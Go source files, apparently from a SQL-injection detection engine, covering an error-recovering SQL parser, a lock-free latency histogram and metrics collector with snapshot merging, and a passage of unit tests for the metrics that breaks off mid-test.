	"joza/internal/sqltoken"
)

// Recovery is the result of a resilient parse: a best-effort partial parse
// of hostile or malformed SQL together with every diagnostic collected
// along the way. Unlike Parse, ParseRecover never returns an error — an
// attacker must not be able to push a query into an "unanalyzable" bucket
// just by malforming it, so the contract is "a diagnosed partial parse and
// a verdict, not an error".
type Recovery struct {
	// Stmts holds every statement that parsed cleanly, in source order.
	// A syntactically broken region contributes diagnostics, not entries.
	Stmts []Statement

	// Errs holds one *SyntaxError per recovery point, in source order.
	// Empty means the whole input parsed.
	Errs []*SyntaxError

	// Skipped counts tokens discarded while resynchronizing. A high ratio
	// of skipped tokens to total tokens is itself a suspicion signal:
	// benign application SQL parses nearly completely.
	Skipped int

	// Tokens is the total number of non-comment tokens in the input, so
	// callers can turn Skipped into a ratio without re-lexing.
	Tokens int
}

// Clean reports whether the input parsed without any diagnostics.
func (r *Recovery) Clean() bool { return len(r.Errs) == 0 }

// Stmt returns the first parsed statement, or nil if nothing parsed. Most
// call sites analyze single-statement queries and only want the head.
func (r *Recovery) Stmt() Statement {
	if len(r.Stmts) == 0 {
		return nil
	}
	return r.Stmts[0]
}

// stmtStartKeywords are the sync points for near-token error recovery:
// tokens at which a fresh parse attempt is worth making.
var stmtStartKeywords = map[string]bool{
	"SELECT": true,
	"INSERT": true,
	"UPDATE": true,
	"DELETE": true,
	"CREATE": true,
	"DROP":   true,
}

// ParseRecover parses query under dialect d with near-token error
// recovery. On a syntax error it records the diagnostic, discards the
// offending token, skips forward to the next synchronization point (a
// statement-head keyword or past the next ';') and resumes parsing. The
// result always covers the whole input: every token is either inside a
// parsed statement, counted in Skipped, or a separator semicolon.
func ParseRecover(d sqltoken.Dialect, query string) *Recovery {
	toks := lexForParse(d, query)
	rec := &Recovery{Tokens: len(toks)}
	pos := 0
	for pos < len(toks) {
		p := &parser{toks: toks, pos: pos, srcLen: len(query), d: d}
		stmt, err := p.parseStatement()
		if err == nil {
			rec.Stmts = append(rec.Stmts, stmt)
			for p.peekIs(sqltoken.KindPunct, ";") {
				p.next()
			}
			if p.pos == pos {
				// parseStatement consumed nothing (cannot happen with the
				// current grammar, but guarantee progress regardless).
				p.pos++
				rec.Skipped++
			}
			pos = p.pos
			continue
		}
		se, ok := err.(*SyntaxError)
		if !ok {
			se = &SyntaxError{Pos: p.peek().Start, Msg: err.Error()}
		}
		rec.Errs = append(rec.Errs, se)
		// Drop the token the parser choked on, then scan for a sync point.
		// p.pos is where the parse stalled; everything from there to the
		// sync point is unparsed attack surface.
		from := p.pos + 1
		if from <= pos {
			from = pos + 1
		}
		next := resyncPoint(toks, from)
		rec.Skipped += next - pos
		pos = next
	}
	return rec
}

// resyncPoint returns the index of the next statement-head keyword at or
// after from, or the index just past the next ';', whichever comes first.
func resyncPoint(toks []sqltoken.Token, from int) int {
	for i := from; i < len(toks); i++ {
		t := toks[i]
		if t.Kind == sqltoken.KindKeyword && stmtStartKeywords[strings.ToUpper(t.Text)] {
			return i
		}
		if t.Kind == sqltoken.KindPunct && t.Text == ";" {
			return i + 1
		}
	}
	return len(toks)
}
