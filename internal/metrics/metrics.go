// Package metrics provides the lock-free counter set and latency
// histogram behind joza.Metrics. It is a leaf package: the Guard, the PTI
// daemon and the benchmark commands all record into a Collector and
// publish Snapshot values, so one snapshot type travels unchanged from
// Guard.Check to the daemon wire protocol to command-line output.
package metrics

import (
	"fmt"
	"math"
	"math/bits"
	"sort"
	"strings"
	"sync/atomic"
	"time"
)

// numBuckets covers latencies from 1ns to ~34s in power-of-two buckets;
// everything slower lands in the last bucket.
const numBuckets = 36

// Histogram is a fixed-size power-of-two bucket histogram of durations,
// in the spirit of HDR histograms: constant memory, lock-free recording,
// quantiles read by walking the buckets. The zero value is ready for use.
type Histogram struct {
	buckets [numBuckets]atomic.Uint64
	count   atomic.Uint64
	sum     atomic.Int64
}

func bucketIndex(d time.Duration) int {
	if d <= 0 {
		return 0
	}
	idx := bits.Len64(uint64(d)) - 1
	if idx >= numBuckets {
		idx = numBuckets - 1
	}
	return idx
}

// Observe records one duration.
func (h *Histogram) Observe(d time.Duration) {
	h.buckets[bucketIndex(d)].Add(1)
	h.count.Add(1)
	h.sum.Add(int64(d))
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// Quantile returns an upper-bound estimate of the q-quantile (0 < q <= 1):
// the upper edge of the bucket holding the q-th observation. Zero
// observations yield zero.
func (h *Histogram) Quantile(q float64) time.Duration {
	total := h.count.Load()
	if total == 0 {
		return 0
	}
	rank := uint64(math.Ceil(q * float64(total)))
	if rank < 1 {
		rank = 1
	}
	if rank > total {
		rank = total
	}
	var seen uint64
	for i := 0; i < numBuckets; i++ {
		seen += h.buckets[i].Load()
		if seen >= rank {
			return time.Duration(uint64(1) << uint(i+1))
		}
	}
	return time.Duration(uint64(1) << numBuckets)
}

// Mean returns the mean observed duration (zero when empty).
func (h *Histogram) Mean() time.Duration {
	n := h.count.Load()
	if n == 0 {
		return 0
	}
	return time.Duration(h.sum.Load() / int64(n))
}

// Sum returns the summed observed duration in nanoseconds.
func (h *Histogram) Sum() int64 { return h.sum.Load() }

// Bucket is one occupied histogram bucket: the count of observations at
// or below the upper bound LeNs (non-cumulative; exporters that need
// Prometheus-style cumulative buckets sum as they walk).
type Bucket struct {
	LeNs  int64  `json:"leNs"`
	Count uint64 `json:"count"`
}

// Buckets returns the occupied buckets in ascending bound order. Empty
// buckets are elided so snapshots marshal compactly.
func (h *Histogram) Buckets() []Bucket {
	var out []Bucket
	for i := 0; i < numBuckets; i++ {
		if n := h.buckets[i].Load(); n > 0 {
			out = append(out, Bucket{LeNs: int64(uint64(1) << uint(i+1)), Count: n})
		}
	}
	return out
}

// Stage identifies one timed phase of the hybrid check pipeline.
type Stage int

// Pipeline stages with dedicated histograms.
const (
	// StageLex is SQL lexing (skipped entirely on a PTI query-cache hit).
	StageLex Stage = iota
	// StagePTICover is PTI fragment-cover analysis on a cache miss.
	StagePTICover
	// StageNTIMatch is the summed per-input approximate matching.
	StageNTIMatch
	// StageNTIPrefilter is the q-gram prefilter portion of NTI matching
	// (gram-set build plus per-input counting).
	StageNTIPrefilter
	// StageProfile is the query-skeleton profile stage (normalization plus
	// the per-call-site lookup).
	StageProfile
	numStages
)

// StageName returns the stable label used in snapshots and exports.
func StageName(s Stage) string {
	switch s {
	case StageLex:
		return "lex"
	case StagePTICover:
		return "pti_cover"
	case StageNTIMatch:
		return "nti_match"
	case StageNTIPrefilter:
		return "nti_prefilter"
	case StageProfile:
		return "profile"
	default:
		return "unknown"
	}
}

// Collector accumulates check counters and latencies. It is safe for
// concurrent use and designed to be shared: a Manager hands one Collector
// to every Guard it rebuilds so counters survive fragment-set swaps.
type Collector struct {
	checks         atomic.Uint64
	attacks        atomic.Uint64
	ntiAttacks     atomic.Uint64
	ptiAttacks     atomic.Uint64
	profileAttacks atomic.Uint64
	degraded       atomic.Uint64
	panics         atomic.Uint64
	overBudget     atomic.Uint64
	shed           atomic.Uint64
	sampleTick     atomic.Uint64
	latency        Histogram
	stages         [numStages]Histogram
}

// NewCollector returns an empty Collector.
func NewCollector() *Collector { return &Collector{} }

// sampleEvery is the latency sampling stride for SampleLatency callers:
// reading the clock twice per check costs more than the rest of a cached
// check on some hosts, so sub-microsecond hot paths time one check in 16.
// Quantiles over the sample are statistically the same; the first check is
// always sampled so short runs still report latencies.
const sampleEvery = 16

// SampleLatency reports whether the caller should time this check. Callers
// on µs-scale hot paths bracket the check with a clock read only when it
// returns true and pass a negative duration to RecordCheck otherwise;
// callers whose per-request cost dwarfs the clock just time every request.
func (c *Collector) SampleLatency() bool {
	return (c.sampleTick.Add(1)-1)%sampleEvery == 0
}

// RecordCheck records one completed check, attributing the attack bit per
// analyzer (profileAttack is the query-skeleton profile stage's vote,
// always false in two-stage pipelines). A negative duration means the
// latency was not sampled for this check and only the counters move.
func (c *Collector) RecordCheck(ntiAttack, ptiAttack, profileAttack bool, d time.Duration) {
	c.checks.Add(1)
	if ntiAttack || ptiAttack || profileAttack {
		c.attacks.Add(1)
	}
	if ntiAttack {
		c.ntiAttacks.Add(1)
	}
	if ptiAttack {
		c.ptiAttacks.Add(1)
	}
	if profileAttack {
		c.profileAttacks.Add(1)
	}
	if d >= 0 {
		c.latency.Observe(d)
	}
}

// RecordDegraded counts one check that could not reach the PTI daemon and
// fell back to the transport's degradation policy (NTI-only fail-open or
// a synthesized fail-closed attack verdict). Callers pair it with
// RecordCheck for the verdict they ultimately served.
func (c *Collector) RecordDegraded() { c.degraded.Add(1) }

// RecordPanic counts one analyzer-stage panic that the engine recovered
// and converted into a failure-mode verdict.
func (c *Collector) RecordPanic() { c.panics.Add(1) }

// RecordOverBudget counts one check that exceeded a configured cost budget
// (query/input bytes, DP cells, tokens) and was resolved by the failure
// mode instead of finishing its analysis. Counted separately from
// timeouts: a budget bounds work, a deadline bounds wall time.
func (c *Collector) RecordOverBudget() { c.overBudget.Add(1) }

// RecordShed counts one request rejected by admission control before any
// analysis ran. Shed requests never reach RecordCheck.
func (c *Collector) RecordShed() { c.shed.Add(1) }

// ObserveStage records one stage duration. Stage durations come from
// decision tracing: only traced checks time their stages, so these
// histograms describe the sampled population (the check-latency histogram
// keeps its own, independent sampling).
func (c *Collector) ObserveStage(s Stage, d time.Duration) {
	if s < 0 || s >= numStages {
		return
	}
	c.stages[s].Observe(d)
}

// ObserveStageDurations records the stage timings a finished trace span
// carries: zero values mean the stage did not run (a cache hit skips both
// lex and cover) and are not observed.
func (c *Collector) ObserveStageDurations(lexNs, ptiCoverNs, ntiMatchNs, ntiPrefilterNs, profileNs int64) {
	if lexNs > 0 {
		c.stages[StageLex].Observe(time.Duration(lexNs))
	}
	if ptiCoverNs > 0 {
		c.stages[StagePTICover].Observe(time.Duration(ptiCoverNs))
	}
	if ntiMatchNs > 0 {
		c.stages[StageNTIMatch].Observe(time.Duration(ntiMatchNs))
	}
	if ntiPrefilterNs > 0 {
		c.stages[StageNTIPrefilter].Observe(time.Duration(ntiPrefilterNs))
	}
	if profileNs > 0 {
		c.stages[StageProfile].Observe(time.Duration(profileNs))
	}
}

// Snapshot returns the collector's counters. Cache and matcher fields are
// zero; the owner (Guard, daemon server) fills them from its analyzers.
func (c *Collector) Snapshot() Snapshot {
	s := Snapshot{
		Checks:           c.checks.Load(),
		Attacks:          c.attacks.Load(),
		NTIAttacks:       c.ntiAttacks.Load(),
		PTIAttacks:       c.ptiAttacks.Load(),
		ProfileAttacks:   c.profileAttacks.Load(),
		DegradedChecks:   c.degraded.Load(),
		PanicsRecovered:  c.panics.Load(),
		OverBudgetChecks: c.overBudget.Load(),
		ShedRequests:     c.shed.Load(),
		LatencyP50Ns:     int64(c.latency.Quantile(0.50)),
		LatencyP99Ns:     int64(c.latency.Quantile(0.99)),
		LatencyMeanNs:    int64(c.latency.Mean()),
		LatencyCount:     c.latency.Count(),
		LatencySumNs:     c.latency.Sum(),
		LatencyBuckets:   c.latency.Buckets(),
	}
	for st := Stage(0); st < numStages; st++ {
		h := &c.stages[st]
		if h.Count() == 0 {
			continue
		}
		s.Stages = append(s.Stages, StageLatency{
			Stage:   StageName(st),
			Count:   h.Count(),
			P50Ns:   int64(h.Quantile(0.50)),
			P99Ns:   int64(h.Quantile(0.99)),
			MeanNs:  int64(h.Mean()),
			SumNs:   h.Sum(),
			Buckets: h.Buckets(),
		})
	}
	return s
}

// ShardHealth is the client-side view of one shard of a daemon fleet:
// which keyspace member it is, how its circuit breaker stands, and how
// much transport churn it has caused. A dead shard shows an open breaker
// and growing exhausted counts while its siblings stay closed — the
// per-shard degradation story rendered in /metrics.
type ShardHealth struct {
	// Shard names the fleet member (its dial address, or "shard-i" for
	// custom dialers).
	Shard string `json:"shard"`
	// BreakerState is "closed", "open", "half-open" or "disabled".
	BreakerState   string `json:"breakerState"`
	BreakerTrips   uint64 `json:"breakerTrips,omitempty"`
	BreakerRejects uint64 `json:"breakerRejects,omitempty"`
	BreakerProbes  uint64 `json:"breakerProbes,omitempty"`
	// Dials and Exhausted are the shard pool's connection churn: dials
	// above the pool size mean replacements, exhausted counts requests
	// that ran out of reconnection attempts.
	Dials     uint64 `json:"dials,omitempty"`
	Exhausted uint64 `json:"exhausted,omitempty"`
	// Version is the snapshot version the shard most recently reported on a
	// reply or stats fetch (empty for unversioned shards). During a rollout
	// the fleet briefly shows mixed versions here; StaleServed counts
	// verdicts this shard served while its version differed from the
	// fleet's current one.
	Version     string `json:"version,omitempty"`
	StaleServed uint64 `json:"staleServed,omitempty"`
	// Err notes a shard that could not answer a fleet-wide control fetch
	// (its counters are excluded from the merged snapshot).
	Err string `json:"err,omitempty"`
}

// CacheShard is the activity of one cache shard.
type CacheShard struct {
	Hits    uint64 `json:"hits"`
	Misses  uint64 `json:"misses"`
	Entries uint64 `json:"entries"`
}

// StageLatency is the snapshot of one pipeline stage's histogram. Stage
// timings are recorded for traced checks (see Collector.ObserveStage), so
// Count is the traced population, not total checks.
type StageLatency struct {
	Stage   string   `json:"stage"`
	Count   uint64   `json:"count"`
	P50Ns   int64    `json:"p50Ns"`
	P99Ns   int64    `json:"p99Ns"`
	MeanNs  int64    `json:"meanNs"`
	SumNs   int64    `json:"sumNs"`
	Buckets []Bucket `json:"buckets,omitempty"`
}

// Snapshot is one point-in-time reading of a guard's (or daemon's)
// counters. It marshals to stable JSON and is the payload of the daemon
// protocol's "stats" verb.
type Snapshot struct {
	// Checks counts analyzed queries; Attacks counts blocked ones,
	// attributed per analyzer (a query both flag counts in both).
	Checks     uint64 `json:"checks"`
	Attacks    uint64 `json:"attacks"`
	NTIAttacks uint64 `json:"ntiAttacks"`
	PTIAttacks uint64 `json:"ptiAttacks"`
	// ProfileAttacks counts queries the query-skeleton profile stage
	// flagged (unseen skeleton for the call site); zero in two-stage
	// pipelines. ProfileSites and ProfileSkeletons describe the loaded
	// profile store, filled by the owner.
	ProfileAttacks   uint64 `json:"profileAttacks,omitempty"`
	ProfileSites     uint64 `json:"profileSites,omitempty"`
	ProfileSkeletons uint64 `json:"profileSkeletons,omitempty"`

	// SnapshotVersion is the content-derived version of the analysis
	// snapshot serving checks (empty for unversioned owners). A merged
	// fleet snapshot carries the sole version when all shards agree and
	// the sentinel "mixed" while a rollout is in flight.
	SnapshotVersion string `json:"snapshotVersion,omitempty"`

	// DegradedChecks counts checks served without a PTI verdict because
	// the daemon transport was unavailable: the remote HybridClient fell
	// back to its degradation policy (fail-open NTI-only or fail-closed
	// synthetic attack). Always zero for in-process Guards.
	DegradedChecks uint64 `json:"degradedChecks"`

	// Containment-layer counters. PanicsRecovered counts analyzer-stage
	// panics the engine recovered into failure-mode verdicts;
	// OverBudgetChecks counts checks that blew a cost budget (distinct
	// from timeouts); ShedRequests counts requests rejected by admission
	// control before analysis.
	PanicsRecovered  uint64 `json:"panicsRecovered,omitempty"`
	OverBudgetChecks uint64 `json:"overBudgetChecks,omitempty"`
	ShedRequests     uint64 `json:"shedRequests,omitempty"`

	// Circuit-breaker activity on the daemon transport's client side,
	// filled by the owner from its Pool: the breaker's current state,
	// closed→open trips (including failed half-open probes), calls
	// rejected while open, and half-open probes admitted.
	BreakerState   string `json:"breakerState,omitempty"`
	BreakerTrips   uint64 `json:"breakerTrips,omitempty"`
	BreakerRejects uint64 `json:"breakerRejects,omitempty"`
	BreakerProbes  uint64 `json:"breakerProbes,omitempty"`

	// NTI approximate-matcher activity: total invocations of the
	// quadratic matcher, how many were abandoned early (threshold band
	// exhausted or bit-parallel scan miss), and q-gram prefilter traffic —
	// pairs checked and pairs rejected before any matcher ran.
	NTIMatcherCalls      uint64 `json:"ntiMatcherCalls"`
	NTIMatcherEarlyExits uint64 `json:"ntiMatcherEarlyExits"`
	NTIPrefilterChecks   uint64 `json:"ntiPrefilterChecks"`
	NTIPrefilterRejects  uint64 `json:"ntiPrefilterRejects"`

	// Daemon server activity, filled by the daemon's Stats: requests by
	// verb, protocol errors (unknown verbs, replies that failed to
	// encode), and connections dropped by the per-connection read
	// deadline. Zero when the owner is not serving the wire protocol.
	DaemonAnalyzeOps uint64 `json:"daemonAnalyzeOps,omitempty"`
	DaemonStatsOps   uint64 `json:"daemonStatsOps,omitempty"`
	DaemonTracesOps  uint64 `json:"daemonTracesOps,omitempty"`
	DaemonErrors     uint64 `json:"daemonErrors,omitempty"`
	DaemonTimeouts   uint64 `json:"daemonTimeouts,omitempty"`

	// Batched-wire activity: "batch" frames served and the items they
	// carried (each item also counts in DaemonAnalyzeOps, so the analyze
	// counter stays the per-check rate whatever the framing).
	DaemonBatchOps   uint64 `json:"daemonBatchOps,omitempty"`
	DaemonBatchItems uint64 `json:"daemonBatchItems,omitempty"`

	// Shards describes a sharded daemon fleet from the client's point of
	// view: one entry per shard with its transport health. Filled by the
	// owner from its ShardedPool; empty for single-daemon deployments.
	Shards []ShardHealth `json:"shards,omitempty"`

	// PTI cache totals and per-shard breakdown of the query cache.
	CacheQueryHits     uint64       `json:"cacheQueryHits"`
	CacheStructureHits uint64       `json:"cacheStructureHits"`
	CacheMisses        uint64       `json:"cacheMisses"`
	CacheShards        []CacheShard `json:"cacheShards,omitempty"`

	// Check latency, bucket-quantized upper bounds in nanoseconds, plus
	// the raw bucket counts so exporters (Prometheus text format) can
	// rebuild the full histogram from any snapshot — local or one that
	// crossed the daemon wire.
	LatencyP50Ns   int64    `json:"latencyP50Ns"`
	LatencyP99Ns   int64    `json:"latencyP99Ns"`
	LatencyMeanNs  int64    `json:"latencyMeanNs"`
	LatencyCount   uint64   `json:"latencyCount,omitempty"`
	LatencySumNs   int64    `json:"latencySumNs,omitempty"`
	LatencyBuckets []Bucket `json:"latencyBuckets,omitempty"`

	// Stages holds per-stage histograms (lex, PTI fragment cover, NTI
	// approximate match) for traced checks. Empty when tracing is off.
	Stages []StageLatency `json:"stages,omitempty"`
}

// Merge folds several snapshots — one per shard of a daemon fleet — into
// a fleet-wide view: counters sum, histograms merge bucket-by-bucket with
// quantiles re-derived from the merged buckets, per-stage histograms merge
// by stage name, and per-daemon cache shards concatenate. Breaker and
// Shards fields are left empty: they describe one transport's view and the
// caller (a ShardedPool) reports them per shard instead.
func Merge(snaps ...Snapshot) Snapshot {
	var out Snapshot
	latency := newBucketMerge()
	stageOrder := []string{}
	stages := map[string]*stageMerge{}
	for _, s := range snaps {
		switch {
		case s.SnapshotVersion == "":
		case out.SnapshotVersion == "":
			out.SnapshotVersion = s.SnapshotVersion
		case out.SnapshotVersion != s.SnapshotVersion:
			out.SnapshotVersion = "mixed"
		}
		out.Checks += s.Checks
		out.Attacks += s.Attacks
		out.NTIAttacks += s.NTIAttacks
		out.PTIAttacks += s.PTIAttacks
		out.ProfileAttacks += s.ProfileAttacks
		out.ProfileSites += s.ProfileSites
		out.ProfileSkeletons += s.ProfileSkeletons
		out.DegradedChecks += s.DegradedChecks
		out.PanicsRecovered += s.PanicsRecovered
		out.OverBudgetChecks += s.OverBudgetChecks
		out.ShedRequests += s.ShedRequests
		out.NTIMatcherCalls += s.NTIMatcherCalls
		out.NTIMatcherEarlyExits += s.NTIMatcherEarlyExits
		out.NTIPrefilterChecks += s.NTIPrefilterChecks
		out.NTIPrefilterRejects += s.NTIPrefilterRejects
		out.DaemonAnalyzeOps += s.DaemonAnalyzeOps
		out.DaemonBatchOps += s.DaemonBatchOps
		out.DaemonBatchItems += s.DaemonBatchItems
		out.DaemonStatsOps += s.DaemonStatsOps
		out.DaemonTracesOps += s.DaemonTracesOps
		out.DaemonErrors += s.DaemonErrors
		out.DaemonTimeouts += s.DaemonTimeouts
		out.CacheQueryHits += s.CacheQueryHits
		out.CacheStructureHits += s.CacheStructureHits
		out.CacheMisses += s.CacheMisses
		out.CacheShards = append(out.CacheShards, s.CacheShards...)
		latency.add(s.LatencyBuckets, s.LatencyCount, s.LatencySumNs)
		for _, st := range s.Stages {
			sm, ok := stages[st.Stage]
			if !ok {
				sm = &stageMerge{bucketMerge: newBucketMerge()}
				stages[st.Stage] = sm
				stageOrder = append(stageOrder, st.Stage)
			}
			sm.add(st.Buckets, st.Count, st.SumNs)
		}
	}
	out.LatencyCount = latency.count
	out.LatencySumNs = latency.sum
	out.LatencyBuckets = latency.buckets()
	out.LatencyP50Ns = latency.quantile(0.50)
	out.LatencyP99Ns = latency.quantile(0.99)
	if latency.count > 0 {
		out.LatencyMeanNs = latency.sum / int64(latency.count)
	}
	for _, name := range stageOrder {
		sm := stages[name]
		st := StageLatency{
			Stage:   name,
			Count:   sm.count,
			P50Ns:   sm.quantile(0.50),
			P99Ns:   sm.quantile(0.99),
			SumNs:   sm.sum,
			Buckets: sm.buckets(),
		}
		if sm.count > 0 {
			st.MeanNs = sm.sum / int64(sm.count)
		}
		out.Stages = append(out.Stages, st)
	}
	return out
}

// bucketMerge accumulates histogram buckets from several snapshots keyed
// by their upper bound.
type bucketMerge struct {
	byLe  map[int64]uint64
	count uint64
	sum   int64
}

type stageMerge struct{ bucketMerge }

func newBucketMerge() bucketMerge {
	return bucketMerge{byLe: make(map[int64]uint64)}
}

func (m *bucketMerge) add(bs []Bucket, count uint64, sum int64) {
	for _, b := range bs {
		m.byLe[b.LeNs] += b.Count
	}
	m.count += count
	m.sum += sum
}

func (m *bucketMerge) buckets() []Bucket {
	if len(m.byLe) == 0 {
		return nil
	}
	out := make([]Bucket, 0, len(m.byLe))
	for le, n := range m.byLe {
		out = append(out, Bucket{LeNs: le, Count: n})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].LeNs < out[j].LeNs })
	return out
}

// quantile estimates the q-quantile from the merged buckets, with the same
// upper-bound semantics as Histogram.Quantile.
func (m *bucketMerge) quantile(q float64) int64 {
	var total uint64
	for _, n := range m.byLe {
		total += n
	}
	if total == 0 {
		return 0
	}
	rank := uint64(math.Ceil(q * float64(total)))
	if rank < 1 {
		rank = 1
	}
	if rank > total {
		rank = total
	}
	var seen uint64
	for _, b := range m.buckets() {
		seen += b.Count
		if seen >= rank {
			return b.LeNs
		}
	}
	return 0
}

// Format renders the snapshot for terminal output.
func (s Snapshot) Format() string {
	var b strings.Builder
	fmt.Fprintf(&b, "checks %d, attacks %d (NTI %d, PTI %d)\n",
		s.Checks, s.Attacks, s.NTIAttacks, s.PTIAttacks)
	if s.ProfileAttacks+s.ProfileSites+s.ProfileSkeletons > 0 {
		fmt.Fprintf(&b, "profiles: %d sites, %d skeletons, %d attacks\n",
			s.ProfileSites, s.ProfileSkeletons, s.ProfileAttacks)
	}
	if s.DegradedChecks > 0 {
		fmt.Fprintf(&b, "degraded checks (daemon unreachable): %d\n", s.DegradedChecks)
	}
	if s.PanicsRecovered+s.OverBudgetChecks+s.ShedRequests > 0 {
		fmt.Fprintf(&b, "containment: %d panics recovered, %d over budget, %d shed\n",
			s.PanicsRecovered, s.OverBudgetChecks, s.ShedRequests)
	}
	if s.BreakerState != "" && s.BreakerState != "disabled" {
		fmt.Fprintf(&b, "breaker %s: %d trips, %d rejects, %d probes\n",
			s.BreakerState, s.BreakerTrips, s.BreakerRejects, s.BreakerProbes)
	}
	if s.DaemonAnalyzeOps+s.DaemonBatchOps+s.DaemonStatsOps+s.DaemonTracesOps+s.DaemonErrors+s.DaemonTimeouts > 0 {
		fmt.Fprintf(&b, "daemon ops: %d analyze, %d batch (%d items), %d stats, %d traces, %d errors, %d timeouts\n",
			s.DaemonAnalyzeOps, s.DaemonBatchOps, s.DaemonBatchItems,
			s.DaemonStatsOps, s.DaemonTracesOps, s.DaemonErrors, s.DaemonTimeouts)
	}
	for _, sh := range s.Shards {
		fmt.Fprintf(&b, "shard %s: breaker %s (%d trips, %d rejects), %d dials, %d exhausted",
			sh.Shard, sh.BreakerState, sh.BreakerTrips, sh.BreakerRejects, sh.Dials, sh.Exhausted)
		if sh.Err != "" {
			fmt.Fprintf(&b, ", unreachable: %s", sh.Err)
		}
		b.WriteByte('\n')
	}
	fmt.Fprintf(&b, "latency p50 %v, p99 %v, mean %v\n",
		time.Duration(s.LatencyP50Ns), time.Duration(s.LatencyP99Ns), time.Duration(s.LatencyMeanNs))
	for _, st := range s.Stages {
		fmt.Fprintf(&b, "stage %-9s %d traced, p50 %v, p99 %v, mean %v\n",
			st.Stage+":", st.Count,
			time.Duration(st.P50Ns), time.Duration(st.P99Ns), time.Duration(st.MeanNs))
	}
	fmt.Fprintf(&b, "pti cache: %d query hits, %d structure hits, %d misses\n",
		s.CacheQueryHits, s.CacheStructureHits, s.CacheMisses)
	if len(s.CacheShards) > 0 {
		fmt.Fprintf(&b, "query-cache shards (%d):", len(s.CacheShards))
		for _, sh := range s.CacheShards {
			fmt.Fprintf(&b, " %d/%d(%d)", sh.Hits, sh.Hits+sh.Misses, sh.Entries)
		}
		b.WriteString(" hit/lookups(entries)\n")
	}
	fmt.Fprintf(&b, "nti matcher: %d calls, %d early exits\n",
		s.NTIMatcherCalls, s.NTIMatcherEarlyExits)
	if s.NTIPrefilterChecks > 0 {
		fmt.Fprintf(&b, "nti prefilter: %d checks, %d rejects\n",
			s.NTIPrefilterChecks, s.NTIPrefilterRejects)
	}
	return b.String()
}
