package metrics

import (
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestHistogramQuantiles(t *testing.T) {
	var h Histogram
	if h.Quantile(0.5) != 0 || h.Mean() != 0 {
		t.Error("empty histogram must read zero")
	}
	for i := 0; i < 100; i++ {
		h.Observe(1 * time.Microsecond)
	}
	h.Observe(1 * time.Second)
	if h.Count() != 101 {
		t.Errorf("count = %d", h.Count())
	}
	p50 := h.Quantile(0.50)
	if p50 < time.Microsecond || p50 > 4*time.Microsecond {
		t.Errorf("p50 = %v, want ~1-2µs bucket bound", p50)
	}
	p999 := h.Quantile(0.999)
	if p999 < time.Second {
		t.Errorf("p99.9 = %v, want >= 1s", p999)
	}
	if m := h.Mean(); m < 5*time.Millisecond {
		t.Errorf("mean = %v, want pulled up by the 1s outlier", m)
	}
}

func TestHistogramBucketEdges(t *testing.T) {
	var h Histogram
	h.Observe(0)
	h.Observe(-5)
	h.Observe(time.Duration(1) << 62) // beyond the last bucket
	if h.Count() != 3 {
		t.Errorf("count = %d", h.Count())
	}
	if h.Quantile(1.0) == 0 {
		t.Error("max quantile must be nonzero")
	}
}

func TestCollectorCounters(t *testing.T) {
	c := NewCollector()
	c.RecordCheck(false, false, false, time.Microsecond)
	c.RecordCheck(true, false, false, time.Microsecond)
	c.RecordCheck(false, true, false, time.Microsecond)
	c.RecordCheck(true, true, true, time.Microsecond)
	s := c.Snapshot()
	if s.Checks != 4 || s.Attacks != 3 || s.NTIAttacks != 2 || s.PTIAttacks != 2 {
		t.Errorf("snapshot = %+v", s)
	}
	if s.LatencyP50Ns == 0 || s.LatencyP99Ns == 0 {
		t.Error("latency quantiles missing")
	}
}

func TestCollectorConcurrent(t *testing.T) {
	c := NewCollector()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				c.RecordCheck(i%7 == 0, i%11 == 0, i%13 == 0, time.Duration(i)*time.Nanosecond)
			}
		}()
	}
	wg.Wait()
	if got := c.Snapshot().Checks; got != 8000 {
		t.Errorf("checks = %d, want 8000", got)
	}
}

func TestSnapshotJSONShape(t *testing.T) {
	s := Snapshot{Checks: 1, CacheShards: []CacheShard{{Hits: 2, Misses: 1, Entries: 3}}}
	data, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{`"checks"`, `"cacheShards"`, `"latencyP50Ns"`, `"ntiMatcherCalls"`} {
		if !strings.Contains(string(data), key) {
			t.Errorf("JSON missing %s: %s", key, data)
		}
	}
}

func TestSnapshotFormat(t *testing.T) {
	s := Snapshot{Checks: 10, Attacks: 2, CacheShards: []CacheShard{{Hits: 1}}}
	out := s.Format()
	for _, want := range []string{"checks 10", "attacks 2", "shards (1)", "nti matcher"} {
		if !strings.Contains(out, want) {
			t.Errorf("Format missing %q:\n%s", want, out)
		}
	}
}

func TestHistogramBuckets(t *testing.T) {
	var h Histogram
	if got := h.Buckets(); len(got) != 0 {
		t.Fatalf("empty histogram exported %d buckets", len(got))
	}
	h.Observe(3 * time.Nanosecond) // bucket bound 4ns
	h.Observe(3 * time.Nanosecond)
	h.Observe(1000 * time.Nanosecond) // bucket bound 1024ns
	got := h.Buckets()
	if len(got) != 2 {
		t.Fatalf("buckets = %+v, want 2 occupied", got)
	}
	if got[0].LeNs != 4 || got[0].Count != 2 {
		t.Errorf("first bucket = %+v, want le=4 count=2", got[0])
	}
	if got[1].LeNs != 1024 || got[1].Count != 1 {
		t.Errorf("second bucket = %+v, want le=1024 count=1", got[1])
	}
	if h.Sum() != int64(1006) {
		t.Errorf("sum = %d, want 1006", h.Sum())
	}
}

func TestStageNames(t *testing.T) {
	want := map[Stage]string{StageLex: "lex", StagePTICover: "pti_cover", StageNTIMatch: "nti_match"}
	for st, name := range want {
		if StageName(st) != name {
			t.Errorf("StageName(%d) = %q, want %q", st, StageName(st), name)
		}
	}
	if StageName(Stage(99)) != "unknown" {
		t.Error("out-of-range stage must name unknown")
	}
}

func TestCollectorStageHistograms(t *testing.T) {
	c := NewCollector()
	if got := c.Snapshot().Stages; len(got) != 0 {
		t.Fatalf("untraced collector exported stages: %+v", got)
	}
	c.RecordCheck(false, false, false, 4*time.Microsecond)
	c.ObserveStage(StageLex, time.Microsecond)
	c.ObserveStage(StageLex, 2*time.Microsecond)
	c.ObserveStageDurations(0, int64(5*time.Microsecond), int64(3*time.Microsecond), int64(time.Microsecond), int64(2*time.Microsecond))
	c.ObserveStage(Stage(99), time.Second) // ignored, not a panic
	s := c.Snapshot()
	if len(s.Stages) != 5 {
